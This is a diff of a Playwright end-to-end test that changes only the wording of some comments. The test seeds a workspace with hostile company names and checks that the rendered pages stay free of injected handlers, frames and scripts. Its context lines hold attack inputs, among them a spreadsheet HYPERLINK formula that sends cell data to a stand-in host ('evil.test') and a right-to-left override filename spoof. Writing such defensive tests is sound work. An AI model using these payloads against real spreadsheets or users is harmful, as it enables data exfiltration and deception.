@@ -19,7 +19,7 @@ const formula = '=HYPERLINK("https://evil.test/?"&A1,"pay")';
 const reversed = '\u202Egnp.exe\u2066\u200F hidden';
 const hostileText = `${markup}${breakout}${reversed}`;
 
-/** A company whose every text is an attack. */
+/** A company with an attack in every text. */
 function hostileCompany(name: string): CompanyRecord {
   return {
     name,
@@ -66,7 +66,7 @@ function hostileCompany(name: string): CompanyRecord {
 
 const names = [markup, `${formula} & Sons`, `Bank ${reversed} ${breakout}`];
 
-/** Puts the companies straight into the workspace, past everything that an importer makes harmless. */
+/** Puts the companies straight into the workspace, bypassing everything that an importer makes harmless. */
 async function fill(workspace: string): Promise<void> {
   const writer = openCompanyWriter(indexFolderOf(workspaceFile(workspace)));
   writer.release('2026-W47', new Date('2026-11-20T06:00:00Z'));
@@ -76,7 +76,9 @@ async function fill(workspace: string): Promise<void> {
   writer.close();
 }
 
-/** What stands in the page that no value may bring: handlers, frames, foreign scripts, pictures and addresses. */
+/**
+ * Expects the page to be free of what no value may bring in: handlers, frames, foreign scripts, images and addresses.
+ */
 async function holds(page: Page, where: string): Promise<void> {
   const wrong = await page.evaluate(() => {
     const found: string[] = [];
@@ -131,7 +133,7 @@ test(
     await api(page, 'addCollectionItems', { body: { collection_id: collection.id, company_ids } });
     await call(page, 'preferences.set', { readingPane: 'right', filterPanelOpen: true });
 
-    // Lists, with the pane; the dashboard; focus mode; what is said of a decision.
+    // Lists, with the pane; the dashboard; focus mode; what is announced about a decision.
     await page.reload();
     await ready(page);
     await go(page, '/');
@@ -174,7 +176,7 @@ test(
     await go(page, `/company/${id}`);
     for (const region of [/^Sector/, /^Similar/, 'Where it is']) {
       const section = page.getByRole('region', { name: region });
-      // While it loads it may take another's place.
+      // While loading, another element may replace it.
       await expect(() => section.scrollIntoViewIfNeeded({ timeout: 1000 })).toPass();
       await expect(section).toBeVisible();
     }
@@ -204,7 +206,7 @@ test(
     await expect(seen(markup)).toBeVisible();
     await holds(page, 'collections');
 
-    // The palette, a search for it, and the import's preview.
+    // The palette, a search with it, and the import's preview.
     await press(page, 'Control+k');
     await page.getByRole('dialog', { name: 'Command palette' }).getByRole('textbox').fill('<img');
     await expect(page.getByRole('dialog').getByText(markup, { exact: false }).first()).toBeVisible();
